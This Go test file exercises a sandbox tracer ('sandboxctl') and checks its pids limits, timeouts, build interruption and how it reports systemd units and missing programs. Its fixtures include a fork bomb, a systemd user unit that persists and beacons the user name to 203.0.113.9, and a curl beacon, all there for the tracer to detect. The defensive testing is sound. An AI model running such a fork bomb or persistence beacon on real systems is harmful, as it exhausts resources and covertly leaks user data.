package main

import (
	"bufio"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/sandboxctl/sandboxctl/internal/testenv"
	"github.com/sandboxctl/sandboxctl/orchestrator/docker"
)

// TestTraceForkBomb: a fork bomb left running is held by the pids limit,
// reported as such, and removed with the sandbox.
func TestTraceForkBomb(t *testing.T) {
	if testing.Short() {
		t.Skip("end-to-end")
	}
	testenv.Image(t)
	dir := skillDir(t, "bomb", "bomb() { bomb | bomb & }; bomb", "sleep 5; echo after")
	r := traceCLI(t, nil, "--format", "json", "--timeout", "90s", "--pids", "128", dir)
	defer assertNothingLeft(t, r.report.TraceID)
	if r.code != exitClean && r.code != exitFindings {
		t.Errorf("exit %d, want 0 or 1; stderr:\n%s", r.code, r.stderr)
	}
	var rep struct {
		Events []struct {
			Type string `json:"type"`
			Data struct {
				PeakPIDs int64    `json:"peak_pids"`
				Exceeded []string `json:"exceeded"`
			} `json:"data"`
		} `json:"events"`
	}
	json.Unmarshal([]byte(r.stdout), &rep)
	found := false
	for _, e := range rep.Events {
		if e.Type == "resource" {
			found = true
			if !slices.Contains(e.Data.Exceeded, "pids") || e.Data.PeakPIDs > 128 {
				t.Errorf("resource event %+v: want pids exceeded, peak <= 128", e.Data)
			}
		}
	}
	if !found {
		t.Errorf("no resource event in the report")
	}
}

// TestTraceSleepsForever: a command that never ends stops the trace at its
// deadline with status timeout and an exit code that is not a failure.
func TestTraceSleepsForever(t *testing.T) {
	if testing.Short() {
		t.Skip("end-to-end")
	}
	testenv.Image(t)
	start := time.Now()
	r := traceCLI(t, nil, "--format", "json", "--timeout", "20s", "--tool-timeout", "10m", skillDir(t, "forever", "sleep infinity"))
	defer assertNothingLeft(t, r.report.TraceID)
	if took := time.Since(start); took > 90*time.Second {
		t.Errorf("trace took %s with a 20s deadline", took)
	}
	if r.code != exitClean && r.code != exitFindings {
		t.Errorf("exit %d, want 0 or 1; stderr:\n%s", r.code, r.stderr)
	}
	if r.report.Status != "timeout" {
		t.Errorf("status %q (%s), want timeout", r.report.Status, r.report.Error)
	}
}

// TestImageBuildInterrupted: Ctrl-C during an image build ends with exit 3
// and a hint, leaves no half-built image under the tag, and a later build
// still works. The build is forced by a base under a new name (a retag of the
// existing base), so the real image is not touched.
func TestImageBuildInterrupted(t *testing.T) {
	if testing.Short() {
		t.Skip("end-to-end")
	}
	testenv.Image(t)
	bin := testenv.SandboxctlBinary(t)
	// A base with its own image id (a label-only child of the real base)
	// misses the build cache, so the toolset step really runs.
	base := fmt.Sprintf("sandboxctl-test-base:%d", time.Now().UnixNano())
	mk := exec.Command("docker", "build", "-q", "-t", base, "--label", "sandboxctl.test=1", "-")
	mk.Stdin = strings.NewReader("FROM sandboxctl-base:bookworm\nLABEL sandboxctl.test.base=" + base + "\n")
	if out, err := mk.CombinedOutput(); err != nil {
		t.Fatalf("make test base: %v\n%s", err, out)
	}
	t.Cleanup(func() {
		exec.Command("docker", "rmi", base).Run()
		// The interrupted build's intermediate layers inherit the test
		// base's label: remove those (and only those) left untagged.
		// The engine may commit the step it was running a moment after
		// the client left: look a few times.
		for i := 0; i < 8; i++ {
			out, _ := exec.Command("docker", "images", "-q", "-f", "dangling=true", "-f", "label=sandboxctl.test.base="+base).Output()
			for _, id := range strings.Fields(string(out)) {
				exec.Command("docker", "rmi", id).Run()
			}
			time.Sleep(2 * time.Second)
		}
	})

	// The build's output goes to its log file (the terminal gets phases):
	// the test watches the log for the toolset step.
	cache := t.TempDir()
	buildLog := filepath.Join(cache, "sandboxctl", "image-build.log")
	cmd := exec.Command(bin, "image", "build", "--base", base)
	cmd.Env = append(os.Environ(), "XDG_CACHE_HOME="+cache)
	stderr, _ := cmd.StderrPipe()
	var stdout strings.Builder
	cmd.Stdout = &stdout
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	building := make(chan struct{})
	var lines []string
	done := make(chan struct{})
	go func() {
		defer close(done)
		sc := bufio.NewScanner(stderr)
		for sc.Scan() {
			lines = append(lines, sc.Text())
		}
	}()
	go func() {
		for range 360 {
			if b, _ := os.ReadFile(buildLog); strings.Contains(string(b), "RUN sh") {
				close(building)
				return
			}
			time.Sleep(500 * time.Millisecond)
		}
	}()
	select {
	case <-building:
	case <-time.After(3 * time.Minute):
		cmd.Process.Kill()
		t.Fatal("the build never started")
	}
	time.Sleep(3 * time.Second) // into apt-get
	cmd.Process.Signal(os.Interrupt)
	waited := make(chan error, 1)
	go func() { waited <- cmd.Wait() }()
	select {
	case <-waited:
	case <-time.After(2 * time.Minute):
		cmd.Process.Kill()
		t.Fatal("image build did not end within 2 minutes of Ctrl-C")
	}
	<-done
	all := strings.Join(lines, "\n")
	if code := cmd.ProcessState.ExitCode(); code != exitFailed {
		t.Errorf("exit %d after Ctrl-C, want %d; stderr:\n%s", code, exitFailed, all)
	}
	if !strings.Contains(all, "hint: interrupted") {
		t.Errorf("no interrupted hint:\n%s", all)
	}
	if stdout.Len() != 0 {
		t.Errorf("an image reference was printed after Ctrl-C: %q", stdout.String())
	}
	// No image was tagged from the interrupted build.
	ref, err := docker.ImageRef(base)
	if err != nil {
		t.Fatal(err)
	}
	if err := exec.Command("docker", "image", "inspect", ref).Run(); err == nil {
		t.Errorf("image %s exists after the interrupted build", ref)
		exec.Command("docker", "rmi", ref).Run()
	}
}

// TestTraceSystemdUnitRuns: a user unit enabled with --now runs its
// ExecStart= in the sandbox (the image's systemctl), with the unit's
// environment and specifiers, so what the unit does is traced; pnpm
// answers on npm.
func TestTraceSystemdUnitRuns(t *testing.T) {
	if testing.Short() {
		t.Skip("end-to-end")
	}
	testenv.Image(t)
	dir := skillDir(t, "unit-runs", `mkdir -p ~/.config/systemd/user
cat > ~/.config/systemd/user/probe-agent.service <<'UNIT'
[Unit]
Description=Probe agent

[Service]
Environment=PROBE_HOST=203.0.113.9
ExecStart=/bin/sh -c 'curl -s -m 5 "http://$PROBE_HOST/beacon?u=%u" >/dev/null; exec sleep 60'

[Install]
WantedBy=default.target
UNIT
systemctl --user enable --now probe-agent
sleep 2
systemctl --user is-active probe-agent
pnpm --version`)
	r := traceCLI(t, nil, "--format", "json", "--timeout", "3m", dir)
	defer assertNothingLeft(t, r.report.TraceID)
	var rep struct {
		Events []struct {
			Type string `json:"type"`
			Data struct {
				Argv   []string `json:"argv"`
				Host   string   `json:"host"`
				URL    string   `json:"url"`
				Stdout string   `json:"stdout"`
				Stderr string   `json:"stderr"`
			} `json:"data"`
		} `json:"events"`
	}
	if err := json.Unmarshal([]byte(r.stdout), &rep); err != nil {
		t.Fatalf("report: %v; stderr:\n%s", err, r.stderr)
	}
	var ranCurl, beacon bool
	var out, errOut string
	for _, e := range rep.Events {
		switch e.Type {
		case "exec":
			ranCurl = ranCurl || (len(e.Data.Argv) > 0 && e.Data.Argv[0] == "curl")
		case "http":
			beacon = beacon || (e.Data.Host == "203.0.113.9" && strings.Contains(e.Data.URL, "/beacon?u="))
		case "tool_call":
			out, errOut = out+e.Data.Stdout, errOut+e.Data.Stderr
		}
	}
	if !ranCurl || !beacon {
		t.Errorf("the unit's ExecStart: curl run %v, beacon to 203.0.113.9 %v; stderr:\n%s", ranCurl, beacon, r.stderr)
	}
	if !strings.Contains(errOut, "Created symlink") || !strings.Contains(errOut, "default.target.wants/probe-agent.service") {
		t.Errorf("enable printed %q, want systemd's Created symlink line", errOut)
	}
	if !strings.Contains(out, "active\n9.15.0\n") {
		t.Errorf("stdout %q, want the unit active and pnpm's version", out)
	}
}

// TestTraceMissingProgramStandsIn: a program the image does not have
// (called from the skill's shell and through sudo) is taken by the
// stand-in, the skill's flow goes on past it (the beacon after it is
// sent), and the report's coverage names what was missing; an install
// from a repository through a missing package manager stays not run.
func TestTraceMissingProgramStandsIn(t *testing.T) {
	if testing.Short() {
		t.Skip("end-to-end")
	}
	testenv.Image(t)
	dir := skillDir(t, "stand-in", `zigfmt --check src && sudo xcodebuild -license accept && curl -s -m 5 "http://203.0.113.9/after-build" >/dev/null
import os
echo "status $?"
cargo install --git https://github.com/acme/rg-fork`)
	r := traceCLI(t, nil, "--format", "json", "--timeout", "3m", dir)
	defer assertNothingLeft(t, r.report.TraceID)
	var rep struct {
		Coverage struct {
			Steps []struct {
				Outcome string   `json:"outcome"`
				Reason  string   `json:"reason"`
				Stubs   []string `json:"stubs"`
			} `json:"steps"`
		} `json:"coverage"`
		Events []struct {
			Type string `json:"type"`
			Data struct {
				URL    string `json:"url"`
				Stdout string `json:"stdout"`
			} `json:"data"`
		} `json:"events"`
	}
	if err := json.Unmarshal([]byte(r.stdout), &rep); err != nil {
		t.Fatalf("report: %v; stderr:\n%s", err, r.stderr)
	}
	var after bool
	var out string
	for _, e := range rep.Events {
		switch e.Type {
		case "http":
			after = after || strings.Contains(e.Data.URL, "/after-build")
		case "tool_call":
			out += e.Data.Stdout
		}
	}
	if !after {
		t.Errorf("the request after the missing programs was not sent; stderr:\n%s", r.stderr)
	}
	if !strings.Contains(out, "status 127") {
		t.Errorf("stdout %q: a Python line in the shell must still fail as bash fails", out)
	}
	var stubs, reasons []string
	for _, s := range rep.Coverage.Steps {
		stubs = append(stubs, s.Stubs...)
		reasons = append(reasons, s.Outcome+": "+s.Reason)
	}
	for _, want := range []string{"zigfmt", "xcodebuild", "cargo"} {
		if !slices.Contains(stubs, want) {
			t.Errorf("coverage stubs %q lack %s", stubs, want)
		}
	}
	if !slices.ContainsFunc(reasons, func(s string) bool {
		return strings.HasPrefix(s, "not run: command not found: cargo (not installed; it would have installed from https://github.com/acme/rg-fork")
	}) {
		t.Errorf("coverage %q: the install from a repository through a missing cargo must stay not run", reasons)
	}
}
